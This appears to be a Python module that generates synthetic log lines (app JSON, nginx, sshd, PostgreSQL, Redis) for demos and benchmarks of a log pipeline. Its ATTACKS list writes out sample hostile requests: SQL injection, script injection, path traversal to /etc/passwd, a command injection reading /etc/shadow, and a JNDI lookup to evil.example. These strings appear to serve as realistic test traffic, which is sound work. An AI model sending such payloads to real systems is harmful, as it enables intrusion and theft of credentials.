"""Realistic sample log lines (app JSON, nginx, sshd, PostgreSQL, Redis) for demos and benches."""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime

import orjson

PATHS = ["/api/templates", "/api/templates/{id}", "/api/users/{id}", "/api/search", "/health"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1",
    "curl/8.4.0",
]
PUBLIC_IPS = ["203.0.113.9", "198.51.100.23", "8.8.8.8", "1.1.1.1", "81.2.69.160", "2.125.160.216"]
ATTACKS = [
    "/api/search?q=1' OR 1=1--",
    "/api/search?q=<script>alert(1)</script>",
    "/static/../../etc/passwd",
    "/api/x?cmd=;cat /etc/shadow",
    "/api/x?q=${jndi:ldap://evil.example/a}",
]
JAVA_TRACE = (
    "java.lang.IllegalStateException: template {id} is locked\n"
    "\tat com.rolerabbit.templates.TemplateService.download(TemplateService.java:88)\n"
    "\tat com.rolerabbit.api.TemplateController.get(TemplateController.java:41)\n"
    "Caused by: java.sql.SQLTimeoutException: lock wait timeout\n"
    "\tat org.postgresql.jdbc.PgStatement.execute(PgStatement.java:120)\n"
    "\t... 12 more"
)
PY_TRACE = (
    "Traceback (most recent call last):\n"
    '  File "/app/worker.py", line 42, in render\n'
    "    page = template.render(user)\n"
    "KeyError: 'user_name'"
)


def _app_line(rng: random.Random, now: float) -> bytes:
    status = rng.choices([200, 201, 304, 401, 403, 404, 500], [60, 5, 10, 5, 3, 7, 3])[0]
    level = "ERROR" if status >= 500 else ("WARN" if status >= 400 else "INFO")
    template = rng.randint(1, 500)
    record = {
        "timestamp": datetime.fromtimestamp(now - rng.random() * 3600, UTC).isoformat(
            timespec="milliseconds"
        ),
        "level": level,
        "message": f"GET {PATHS[template % len(PATHS)].format(id=template)} -> {status}",
        "user_id": f"usr_{rng.randint(1, 999)}",
        "template_id": f"tpl_{template}",
        "event_type": rng.choice(["template_download", "template_view", "login", "search"]),
        "response_time": int(rng.lognormvariate(5, 1.1)),
        "path": PATHS[template % len(PATHS)].format(id=template),
        "status": status,
        "client_ip": rng.choice(PUBLIC_IPS),
    }
    if status >= 500:
        record["stack_trace"] = rng.choice([JAVA_TRACE, PY_TRACE]).format(id=template)
    if rng.random() < 0.03:
        record["message"] += f" password=hunter{rng.randint(1, 99)} card 4111 1111 1111 1111"
    if rng.random() < 0.02:
        record["email"] = f"person{rng.randint(1, 99)}@example.com"
    return orjson.dumps(record)


def _nginx_line(rng: random.Random, now: float) -> bytes:
    moment = datetime.fromtimestamp(now - rng.random() * 3600, UTC)
    path = rng.choice(ATTACKS) if rng.random() < 0.05 else rng.choice(PATHS).format(id=7)
    agent = (
        "sqlmap/1.7.2#stable (https://sqlmap.org)" if rng.random() < 0.02 else rng.choice(AGENTS)
    )
    status = rng.choice([200, 200, 200, 304, 404, 401])
    return (
        f"{rng.choice(PUBLIC_IPS)} - - [{moment.strftime('%d/%b/%Y:%H:%M:%S +0000')}] "
        f'"GET {path} HTTP/1.1" {status} {rng.randint(100, 90000)} '
        f'"https://app.rolerabbit.example/" "{agent}"'
    ).encode()


def _syslog_line(rng: random.Random, now: float) -> bytes:
    moment = datetime.fromtimestamp(now - rng.random() * 3600, UTC)
    stamp = moment.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1)
    ip = rng.choice(PUBLIC_IPS)
    text = rng.choice(
        [
            f"sshd[{rng.randint(100, 9999)}]: Failed password for invalid user admin from {ip} "
            f"port {rng.randint(1024, 65535)} ssh2",
            f"sshd[{rng.randint(100, 9999)}]: Accepted publickey for deploy from {ip} port 50022",
            "CRON[2211]: (root) CMD (run-parts /etc/cron.hourly)",
        ]
    )
    return f"{stamp} web-1 {text}".encode()


def _postgres_line(rng: random.Random, now: float) -> bytes:
    moment = datetime.fromtimestamp(now - rng.random() * 3600, UTC)
    return (
        f"{moment.strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} UTC [{rng.randint(100, 9999)}] "
        f'ERROR:  duplicate key value violates unique constraint "templates_pkey"'
    ).encode()


def _redis_line(rng: random.Random, now: float) -> bytes:
    moment = datetime.fromtimestamp(now - rng.random() * 3600, UTC)
    return (
        f"{rng.randint(1, 99)}:M {moment.strftime('%d %b %Y %H:%M:%S.%f')[:-3]} * "
        "Background saving terminated with success"
    ).encode()


MAKERS = [
    (_app_line, 60),
    (_nginx_line, 25),
    (_syslog_line, 9),
    (_postgres_line, 3),
    (_redis_line, 3),
]


def sample_lines(count: int, seed: int = 7, now: float | None = None) -> Iterator[bytes]:
    """`count` log lines in the mix the replaced deployment sees, reproducible by `seed`."""
    rng = random.Random(seed)
    moment = time.time() if now is None else now
    makers = [maker for maker, _ in MAKERS]
    weights = [weight for _, weight in MAKERS]
    for _ in range(count):
        yield rng.choices(makers, weights)[0](rng, moment)


def main(argv: list[str] | None = None) -> int:
    """Print sample lines: `python -m logpipe.samples COUNT [--seed N]`."""
    parser = argparse.ArgumentParser(prog="python -m logpipe.samples")
    parser.add_argument("count", type=int)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args(argv)
    out = sys.stdout.buffer
    for line in sample_lines(args.count, args.seed):
        out.write(line + b"\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
